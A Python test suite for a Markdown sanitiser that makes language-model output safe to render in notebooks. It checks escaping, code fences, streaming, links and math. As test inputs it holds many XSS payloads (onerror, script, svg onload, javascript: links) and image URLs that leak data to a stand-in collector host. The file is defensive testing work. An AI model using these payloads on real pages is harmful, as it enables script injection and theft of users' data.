"""Model output made safe to render as Markdown: no raw HTML whatever the model writes, code shown
exactly, half-streamed answers closed, images from servers shown as links.

Checked as a notebook frontend parses Markdown (tests.support.markdown_checks); the same inputs
through marked, JupyterLab's renderer, are in test_markdown_jupyterlab.py.
"""

from __future__ import annotations

import html
import re
import uuid

import pytest
from hypothesis import HealthCheck, given, settings as hypothesis_settings, strategies as st

from llm_notebook.jupyterlab_math import math_regions
from llm_notebook.markdown import escape_inline, safe_markdown
from llm_notebook.notebook.compare import columns_markdown
from llm_notebook.settings import settings
from tests.support.markdown_checks import (code_blocks, code_spans, html_tokens,
                                           open_fence_at_end, rendered, source_view)

IMG = "<img src=x onerror=alert(1)>"

# The three inputs that got a live tag past the regular-expression escaping, and relatives.
REPORTED = [
    f"``` x`y\n{IMG}",
    f"``{IMG}`",
    f"\\`{IMG}`",
    f"```` x`y\n{IMG}\n````",
    f"~~~ x`y\n{IMG}\n~~~\n{IMG}",
    f"```x``y\n{IMG}",
    f"```{IMG}`",
    f"`` ` {IMG}",
    f"\\\\`{IMG}`",
    f"\\``{IMG}``",
    f"`a` `` {IMG} `",
]

POSITIONS = [
    IMG,
    f"text {IMG} text",
    f"- {IMG}",
    f"1. {IMG}",
    f"- item\n\n  {IMG}",
    f"> {IMG}",
    f"> > - {IMG}",
    f"[{IMG}](https://example.org)",
    f"[link](https://example.org '{IMG}')",
    f"![{IMG}](https://example.org/a.png)",
    f"# {IMG}",
    f"Title {IMG}\n===",
    f"| a | b |\n| - | - |\n| {IMG} | `{IMG}` |",
    f"*{IMG}* **{IMG}** ~~{IMG}~~",
    f"line\n{IMG}\n\n{IMG}",
    f"<div>\n{IMG}\n</div>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- comment --> <!-- unclosed",
    "<![CDATA[ data ]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<script>alert(1)</script>",
    "<style>body { display: none }</style>",
    "<svg onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "</p><p>",
    "<b\u00a0onmouseover=alert(1)>hover</b>",
    f"www.example.org`{IMG}`",
    f"https://example.org/\\{IMG}",
    f"~`{IMG}`",
    f"**x `a*{IMG}`",
    f"*x `a\\`{IMG}*",
]

ENTITIES = ["&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
            "&#x3C;b&#x3E;", "&amp;lt;b&amp;gt;", "&lt", "\\<b>", "\\\\<b>"]


def assert_no_html(markdown: str) -> None:
    assert html_tokens(markdown) == [], markdown


@pytest.mark.parametrize("text", REPORTED + POSITIONS + ENTITIES)
def test_no_input_gets_a_tag_through(text):
    out = safe_markdown(text)
    assert_no_html(out)
    assert_no_html(safe_markdown(text, partial=True))
    assert code_blocks(out) == code_blocks(text, source_view)
    assert code_spans(out) == code_spans(text, source_view)


def _without_markup_languages(page: str) -> str:
    return re.sub(r' class="language-(?![\w+#.-]+")[^"]*"', "", page)


@pytest.mark.parametrize("text", [text for text in REPORTED + POSITIONS if "](" not in text])
def test_tags_outside_code_show_as_the_characters_written(text):
    page = rendered(safe_markdown(text))
    assert "<img" not in page and "<script" not in page and "<svg" not in page
    assert page == _without_markup_languages(source_view.render(text))


def test_the_reported_inputs_show_their_tag_as_text():
    for text in REPORTED[:3]:
        assert "&lt;img src=x onerror=alert(1)&gt;" in rendered(safe_markdown(text))


def test_an_answer_that_is_already_safe_comes_back_as_written():
    answer = "\n".join([
        "## Summary", "",
        "Sales grew **12%** in `df.groupby(\"region\")` terms; see "
        "[the docs](https://pandas.pydata.org/docs/).",
        "Math: $m = p - c$ and x < y.", "",
        "1. Load the data:", "   ```python", "   df = pd.read_csv(\"sales.csv\")", "   ```",
        "2. Plot it.", "",
        "- a", "- b", "",
        "> Note: values are rounded.", "",
        "| region | sales |", "| --- | ---: |", "| north | 10 |", "",
        "Code:", "```", "x = 1", "```", "",
        "half an answer ",
    ])
    assert safe_markdown(answer) == answer
    assert safe_markdown(answer, partial=True) == answer


def test_entities_show_as_text_and_never_become_tags():
    page = rendered(safe_markdown("&lt;img src=x onerror=alert(1)&gt; and &#60;b&#62;"))
    assert page == "<p>&lt;img src=x onerror=alert(1)&gt; and &lt;b&gt;</p>\n"


def test_side_by_side_columns_hold_no_html_but_their_own():
    bodies = [safe_markdown(text, partial=True) for text in REPORTED + POSITIONS]
    titles = [escape_inline(f"model-{number} <b>") for number in range(len(bodies))]
    page = columns_markdown(titles, bodies)
    wrapper = {line for line in page.split("\n") if line.startswith(("<div", "</div>"))}
    for block in html_tokens(page):
        assert set(block.strip().split("\n")) <= wrapper, block
    # every body is parsed as Markdown between its column's lines, code and all
    assert code_spans(page) == [piece for body in bodies for piece in code_spans(body)]
    assert code_blocks(page) == [block for body in bodies for block in code_blocks(body)]


def test_code_keeps_its_exact_content():
    text = "\n\n".join([
        "Use `a < b` and ``x`<y>`z`` here.",
        "```python title='x'\nif a < b and c > d:\n    print('<b>')\n```",
        "~~~~~ text\n```\n<not a fence end>\n~~~~~",
        "    indented <code>\n    block",
        "- item\n\n      indented <code> in a list item\n\n  ```\n  fenced <b> in an item\n  ```",
        "> quoted\n>\n>     indented <code> in a quote\n>\n> ```\n> fenced <i>\n> ```",
        "1. one\n   - two\n\n         <deep> code",
    ])
    out = safe_markdown(text)
    assert code_blocks(out) == code_blocks(text, source_view)
    assert code_spans(out) == ["a < b", "x", "<y>", "z"]
    assert "&amp;lt;" not in rendered(out)  # code never shows an entity for `<`
    assert_no_html(out)


def test_a_fence_keeps_its_language_unless_it_is_markup():
    assert '<code class="language-python">' in rendered(safe_markdown("```python\nx\n```"))
    out = safe_markdown('```"><img/src=x/onerror=alert(1)>\nx\n```')
    assert rendered(out) == "<pre><code>x\n</code></pre>\n"


@pytest.mark.parametrize("text", [
    "look:\n```py\nx < 1",
    "~~~~\ncode <b>",
    "`````\n````\nstill code",
    "- step:\n  ```bash\n  $ ls <dir>",
    "> quoted:\n> ~~~\n> <b>",
    "1. a\n   > - ```\n   >   deep <b>",
    "    indented <b>",
])
def test_a_half_streamed_fence_is_closed_so_nothing_after_it_is_swallowed(text):
    out = safe_markdown(text, partial=True)
    assert not open_fence_at_end(out)
    assert code_blocks(out) == code_blocks(text, source_view)
    page = columns_markdown(["a", "b"], [out, "second column"])
    assert "<p>second column</p>" in rendered(page)


def test_an_unclosed_code_span_or_tag_at_the_end_is_harmless():
    for text in ["answer `code <b", "answer <img src=x onerror=", "answer <!-- x",
                 "[x](javascript:"]:
        out = safe_markdown(text, partial=True)
        assert_no_html(out)
        assert rendered(out) == source_view.render(text)


@pytest.mark.parametrize("text", [
    "![chart](https://collector.example/leak?data=secret)",
    "![chart][ref]\n\n[ref]: https://collector.example/leak",
    "![chart](//collector.example/leak)",
    "![chart](relative/path.png)",
    "![*nested* alt](https://collector.example/a.png 'title')",
])
def test_images_from_servers_are_links(text):
    page = rendered(safe_markdown(text))
    assert "<img" not in page
    assert '<a href="' in page and ">image: " in page


def test_images_inside_link_text_become_text():
    page = rendered(safe_markdown("[![x](https://collector.example/a.png)](https://example.org)"))
    assert "<img" not in page and page.count("<a ") == 1
    assert "collector.example" in page


def test_data_images_stay_images_and_remote_ones_when_allowed(monkeypatch):
    data = "![dot](data:image/png;base64,iVBORw0KGgo=)"
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in rendered(safe_markdown(data))
    remote = "![chart](https://example.org/a.png)"
    assert settings.remote_images is False
    assert "<img" in rendered(safe_markdown(remote, remote_images=True))
    monkeypatch.setattr(settings, "remote_images", True)
    assert '<img src="https://example.org/a.png" alt="chart"' in rendered(safe_markdown(remote))


@pytest.mark.parametrize("text,href", [
    ("[docs](https://example.org/a_b?x=1&y=$2)", "https://example.org/a_b?x=1&amp;y=$2"),
    ("[mail](mailto:someone@example.org)", "mailto:someone@example.org"),
    ("[here](#section)", "#section"),
    ("[file](notes/plan.md)", "notes/plan.md"),
    ("<https://example.org/x>", "https://example.org/x"),
    ("<someone@example.org>", "mailto:someone@example.org"),
])
def test_links_to_the_web_stay_links(text, href):
    assert f'<a href="{href}"' in rendered(safe_markdown(text))


@pytest.mark.parametrize("text", [
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](vbscript:msgbox)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](ftp://example.org)",
    "<javascript:alert(1)>", "<ftp://example.org>", "[x][r]\n\n[r]: javascript:alert(1)",
    "[x](&#106;avascript:alert(1))",
])
def test_links_to_other_schemes_become_text(text):
    page = rendered(safe_markdown(text))
    assert "<a " not in page
    assert "x" in page or "example.org" in page or "javascript" in page


def test_escape_inline_shows_server_strings_literally_in_table_cells():
    values = ["gpt-4o|mini", "a\\|b", "*bold* _it_ `code` <b>x</b>", "[l](javascript:x) ![i](u)",
              "1. not a list", "# not a heading", "  leading spaces", "line\nbreak", "$x$ & ~~s~~",
              "https://example.org/path\\x", "\\"]
    table = "| value |\n| --- |\n" + "\n".join(f"| {escape_inline(v)} |" for v in values)
    page = rendered(table)
    cells = [cell.split("</td>")[0] for cell in page.split("<td>")[1:]]
    assert cells == [html.escape(v.replace("\n", " "), quote=False) for v in values]
    assert_no_html(table)


def test_escape_inline_is_one_line_of_text_anywhere():
    for value in ["- item", "> quote", "    code", "===", "<http://x>", "a\r\nb"]:
        page = rendered(escape_inline(value))
        assert page.startswith("<p>") and page.count("<p>") == 1 and "<a" not in page, page


def test_text_nested_deeper_than_the_parser_goes_is_kept_as_text():
    text = ">" * 60 + " deep <b>\n" + "- " * 60 + "deeper"
    out = safe_markdown(text)
    assert_no_html(out)
    assert "deep &lt;b&gt;" in rendered(out) and "deeper" in rendered(out)


def test_hard_breaks_keep_every_line_break_but_not_in_code():
    out = safe_markdown("one\ntwo\n```\na\nb\n```", hard_breaks=True)
    assert rendered(out) == "<p>one<br />\ntwo</p>\n<pre><code>a\nb\n</code></pre>\n"


# JupyterLab takes LaTeX out of Markdown before parsing it (see test_markdown_jupyterlab.py)

def test_jupyterlab_math_regions_follow_its_rules():
    assert math_regions("a $x$ b") == [(2, 1, 4, 1)]
    assert math_regions("`$x$` and $y$") == [(10, 1, 12, 1)]  # code spans are spared
    assert math_regions("$a\n\nb$") == []  # never across a blank line
    assert math_regions("$a {$} b$") == [(0, 1, 8, 1)]  # braces balance
    assert math_regions("\\\\(x\\\\) \\begin{eq}y\\end{eq}") == [(0, 3, 4, 3), (8, 10, 19, 8)]
    assert math_regions("- ```\n  $x\n  ```\n- $") == [(8, 1, 19, 1)]  # fences in lists are not


def test_math_in_text_is_left_for_jupyterlab_to_render():
    text = "Area $A = \\pi r^2$ and\n\n$$\n\\sum_{i<n} x_i\n$$"
    assert safe_markdown(text) == text


def test_math_cut_from_text_into_code_is_escaped():
    text = f"- $ text\n  ```\n  $ {IMG}\n  ```"
    out = safe_markdown(text)
    assert out == f"- \\$ text\n  ```\n  $ {IMG}\n  ```"
    assert math_regions(out) == []


def test_math_cut_between_two_code_blocks_is_ended_by_a_blank_line():
    text = "1. Run:\n   ```\n   $ pip install x\n   ```\n2. Then:\n   ```\n   $ python <x>\n   ```"
    out = safe_markdown(text)
    assert math_regions(out) == [] and code_blocks(out) == code_blocks(text, source_view)


def test_math_cut_between_code_blocks_in_a_quote_turns_the_first_into_code_spans():
    text = f"> - ```\n>   $ a\n>   ```\n> - ```\n>   $ {IMG}\n>   ```"
    out = safe_markdown(text)
    assert math_regions(out) == []
    assert code_spans(out) == ["$ a"] and code_blocks(out) == [f"$ {IMG}\n"]


# properties, with text built from what Markdown is made of

PIECES = ["```", "~~~", "`", "``", IMG, "<b>", "</b>", "<!--", "-->", "- ", "* ", "> ", "1. ",
          "    ", "  ", "\n", "\n\n", "[a](https://x.org)", "![b](https://y.org/z.png)",
          "![c](data:image/png;base64,AA)", "[r]", "[r]: https://r.org\n", "$", "$$", "|",
          "| a | b |\n|---|---|\n", "---", "===", "<https://a.org>", "&lt;", "&#60;", "\\", "**",
          "_", "x", "word ", "# ", "\t", "javascript:alert(1)", "](", ")", "[", "]", "!", "(",
          "\\\\(", "\\begin{x}", "\\end{x}", "{", "}", "www.e.org", "~", "py\n", "~~"]
ALPHABET = "`~<>![]() \n-*1ab"
markdown_texts = st.one_of(st.text(alphabet=ALPHABET, max_size=80),
                           st.lists(st.sampled_from(PIECES), max_size=30).map("".join))
fuzz = hypothesis_settings(max_examples=1500, deadline=None, derandomize=True,
                           suppress_health_check=[HealthCheck.too_slow])


@fuzz
@given(markdown_texts)
def test_any_text_comes_out_without_html_and_with_its_code(text):
    out = safe_markdown(text)
    assert html_tokens(out) == []
    assert code_blocks(out) == code_blocks(text, source_view)
    assert code_spans(out) == code_spans(text, source_view)
    assert math_regions(out) == [] or "$" in text or "\\" in text


@fuzz
@given(markdown_texts)
def test_any_half_streamed_text_ends_outside_a_fence(text):
    out = safe_markdown(text, partial=True)
    assert not open_fence_at_end(out)
    assert html_tokens(out) == []


@hypothesis_settings(max_examples=300, deadline=None, derandomize=True,
                     suppress_health_check=[HealthCheck.too_slow])
@given(markdown_texts.filter(bool), st.lists(st.floats(0, 1), min_size=1, max_size=6))
def test_rendering_as_the_text_streams_gives_what_rendering_it_whole_gives(text, cuts):
    text = f"Answer {uuid.uuid4().hex}\n\n{text}"  # renders kept from other examples cannot apply
    prefixes = [text[:round(len(text) * cut)] for cut in sorted(cuts)] + [text]
    whole = [safe_markdown(prefix) for prefix in prefixes]
    streamed = [safe_markdown(prefix, partial=True) for prefix in prefixes[:-1]]
    assert streamed + [safe_markdown(text)] == whole
